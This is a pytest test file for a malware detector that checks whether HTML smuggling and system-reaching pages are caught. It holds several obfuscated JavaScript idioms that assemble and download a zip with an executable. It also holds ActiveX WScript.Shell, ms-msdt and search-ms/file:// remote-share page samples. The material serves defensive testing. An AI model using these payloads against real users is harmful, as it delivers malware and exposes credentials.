"""Pages that make a file in the browser (HTML smuggling): whatever the idiom, the file comes out; and pages that reach further than a browser."""

from __future__ import annotations

import base64

import pytest

from content_writer import NOISE, PE, zipped
from kazami.detect.content.page import analyze
from kazami.detect.content.recursion import look
from kazami.detect.content.script import jscript
from kazami.engine import confine
from kazami.model.content import Artifact, Limits, Looked, Scope
from kazami.pipeline.inspect import analyzers

ARCHIVE = zipped({"a.exe": PE + NOISE})
B64 = base64.b64encode(ARCHIVE).decode()
CLICK = "var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='minutes.zip';a.click();"

#: How pages put a file together. The file is called minutes.zip where the page calls it anything.
IDIOMS = {
    "atob and a loop": f"var d=atob('{B64}'),u=new Uint8Array(d.length);for(var i=0;i<d.length;i++)u[i]=d.charCodeAt(i);var b=new Blob([u]);{CLICK}",
    "pieces": f"var p={[B64[i : i + 30] for i in range(0, len(B64), 30)]};fetch('data:application/zip;base64,'+p.join(''));",
    "backwards, under another name": f"let s='{B64[::-1]}'.split('').reverse().join('');navigator.msSaveBlob(new File([Uint8Array.from(window['at'+'ob'](s),c=>c.charCodeAt(0))],'minutes.zip'),'minutes.zip')",
    "xor": f"const r=atob('{base64.b64encode(bytes(c ^ 90 for c in ARCHIVE)).decode()}'),o=[];for(let i=0;i<r.length;i++)o.push(r.charCodeAt(i)^90);const a=document.createElement('a');a.setAttribute('download','minutes.zip');a.setAttribute('href',URL.createObjectURL(new Blob([new Uint8Array(o)])));",
    "numbers": f"var b=new Blob([new Uint8Array({list(ARCHIVE)}).buffer]);{CLICK}",
    "hexadecimal": f"var b=new Blob([new Uint8Array('{ARCHIVE.hex()}'.match(/../g).map(x=>parseInt(x,16)))]);saveAs(b,'minutes.zip')",
    "code that is decoded": f"eval(atob('{base64.b64encode(f'var b=new Blob([Uint8Array.from(atob(`{B64}`),c=>c.charCodeAt(0))]);{CLICK}'.encode()).decode()}'))",
    "an address to go to": f"var k='{B64}';location='data:application/zip;base64,'+btoa(atob(k))",
}


@pytest.mark.skipif(bool(confine.possible()), reason=f"no script is run: {confine.possible()}")
@pytest.mark.parametrize("idiom", IDIOMS)
def test_the_file_comes_out_of_the_script(idiom: str) -> None:
    analysis = jscript.analyze(IDIOMS[idiom].encode(), Scope(Limits(seconds=120.0), name="script0.js"))
    assert ARCHIVE in [child.data for child in analysis.children]
    assert "html.smuggled" in [feature.name for feature in analysis.features]
    if "minutes" in IDIOMS[idiom]:
        assert "minutes.zip" in [child.name for child in analysis.children if child.data == ARCHIVE]


@pytest.mark.skipif(bool(confine.possible()), reason=f"no script is run: {confine.possible()}")
@pytest.mark.parametrize(
    "script",
    [
        "function save(){var b=new Blob([document.body.innerText],{type:'text/csv'});" + CLICK + "}",
        "var b=new Blob(['a,b\\n1,2\\n']);" + CLICK,
        "var i=new Image();i.src='data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ';",
    ],
)
def test_a_table_or_picture_is_no_smuggling(script: str) -> None:
    analysis = jscript.analyze(script.encode(), Scope(Limits(seconds=120.0), name="script0.js"))
    assert "html.smuggled" not in [feature.name for feature in analysis.features]


def test_a_picture_in_a_page_that_holds_a_script_is_opened() -> None:
    picture = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{IDIOMS['numbers']}</script></svg>"
    page = f'<html><embed src="data:image/svg+xml;base64,{base64.b64encode(picture.encode()).decode()}"></html>'.encode()
    scope = Scope(Limits(seconds=120.0, submission_seconds=120.0), name="m.html")
    seen = [one for one in look(Artifact(page, ("m.html",)), analyzers(), scope) if isinstance(one, Looked)]
    assert confine.possible() or "a.exe" in [one.name for one in seen]


@pytest.mark.parametrize(
    ("page", "kind", "expected"),
    [
        ("<script>new ActiveXObject('WScript.Shell')</script>", "html", ("html.reaches_system", "")),
        ("<script>new ActiveXObject('WScript.Shell')</script>", "hta", ("html.reaches_system", "low")),
        ("<script>new ActiveXObject('Microsoft.XMLHTTP')</script>", "html", None),
        ("<script>location='ms-msdt:/id PCWDiagnostic /skip force'</script>", "html", ("html.diagnostic_tool", "")),
        ("<p>The ms-msdt: scheme is switched off</p>", "html", None),
        ("<script>location='search-ms:query=a&crumb=location:\\\\\\\\192.0.2.7@80\\\\x'</script>", "html", ("html.searches_share", "")),
        ("<a href='search-ms:query=a&crumb=location:C%3A%5CUsers'>x</a>", "html", None),
        ("<img src='file://192.0.2.7/s/a.png'>", "html", ("html.remote_share", "")),
        ("<img src='file:///C:/a.png'><a href='https://www.example/'>", "html", None),
    ],
)  # fmt: skip
def test_what_a_page_reaches_for(page: str, kind: str, expected: tuple[str, str] | None) -> None:
    found = analyze(f"<html>{page}</html>".encode(), Scope(name="m.html", kind=kind)).features
    assert [(one.name, one.level) for one in found] == ([expected] if expected else [])
